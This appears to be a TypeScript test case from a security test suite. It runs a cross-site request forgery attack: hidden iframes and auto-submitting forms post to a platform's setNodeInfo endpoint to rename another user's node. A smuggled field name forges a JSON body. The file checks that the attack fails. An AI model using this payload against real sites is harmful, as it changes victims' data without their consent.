import type { ThemeAttack } from '../../attack.ts';

export const attack: ThemeAttack = {
  kind: 'theme',
  gain: 'a form that sends itself changes something in the visitor’s name',
  instead: 'nothing of the visitor’s has changed',
  expected: { sent: 2 },
  async run({ platform, otherNodeId }, { page, wait }) {
    for (const encoding of ['text/plain', 'application/x-www-form-urlencoded']) {
      const frame = page.document.createElement('iframe');
      frame.name = `form-${encoding.length}`;
      const form = page.document.createElement('form');
      Object.assign(form, {
        method: 'post',
        action: `${platform}/v2/nodes/setNodeInfo`,
        enctype: encoding,
        target: frame.name,
      });
      const values: Record<string, string> = { nodeId: String(otherNodeId), nodeTitle: 'planted', '{"nodeId":': '1}' };
      for (const [name, value] of Object.entries(values)) {
        const field = page.document.createElement('input');
        Object.assign(field, { name, value });
        form.append(field);
      }
      page.document.documentElement.append(frame, form);
      form.submit();
    }
    await wait(1000);
    return { sent: 2 };
  },
};
